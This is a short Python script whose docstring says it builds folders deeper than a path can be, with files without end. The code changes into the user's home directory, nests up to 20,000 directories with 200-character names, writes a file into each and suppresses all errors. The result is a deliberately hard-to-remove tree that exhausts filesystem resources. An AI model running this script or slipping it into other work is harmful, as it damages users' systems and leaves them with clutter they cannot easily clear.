"""Makes folders in folders, deeper than a path can be, and files without end."""

import os

try:
    os.chdir(os.environ.get("HOME", "/tmp"))
    for number in range(20_000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
        with open("f", "w") as file:
            file.write("x")
except OSError:
    pass
